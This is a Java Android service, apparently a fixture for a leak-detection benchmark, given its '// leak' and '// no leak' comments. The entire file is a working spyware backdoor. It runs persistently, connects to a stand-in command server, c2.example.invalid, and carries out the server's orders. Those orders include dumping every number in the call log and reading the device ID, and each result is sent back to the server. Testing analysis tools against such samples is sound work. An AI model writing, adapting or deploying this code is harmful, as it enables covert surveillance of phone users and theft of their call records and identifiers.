package robbers;

import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.database.Cursor;
import android.os.IBinder;
import android.provider.CallLog;
import android.telephony.TelephonyManager;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PrintStream;
import java.net.Socket;
import java.util.HashMap;
import java.util.Map;

/** Orders are objects in a table, looked up by the word that the server says. */
public class Registry extends Service {
    interface Order {
        String run(Context context, String[] words) throws IOException;
    }

    private static final Map<String, Order> ORDERS = new HashMap<>();

    static {
        ORDERS.put("echo", (context, words) -> words[1]);
        ORDERS.put("calls", new Calls());
        ORDERS.put("id", (context, words) -> ((TelephonyManager) context.getSystemService("phone")).getDeviceId());
        ORDERS.put("time", (context, words) -> Long.toString(System.currentTimeMillis()));
    }

    static class Calls implements Order {
        public String run(Context context, String[] words) {
            StringBuilder out = new StringBuilder();
            try (Cursor rows = context.getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null)) {
                int number = rows.getColumnIndex(CallLog.Calls.NUMBER);
                while (rows.moveToNext()) {
                    out.append(rows.getString(number)).append('|');
                }
            }
            return out.toString();
        }
    }

    public IBinder onBind(Intent intent) {
        return null;
    }

    public int onStartCommand(Intent intent, int flags, int start) {
        new Thread(() -> {
            try (Socket line = new Socket("c2.example.invalid", 7000)) {
                BufferedReader in = new BufferedReader(new InputStreamReader(line.getInputStream()));
                PrintStream out = new PrintStream(line.getOutputStream());
                String said;
                while ((said = in.readLine()) != null) {
                    String[] words = said.split(" ");
                    Order order = ORDERS.get(words[0]);
                    out.println(order == null ? "?" : order.run(this, words)); // leak
                    out.println(ORDERS.get("time").run(this, words)); // no leak
                    out.println(words.length); // no leak
                }
            } catch (IOException e) {
                stopSelf();
            }
        }).start();
        return START_STICKY;
    }
}
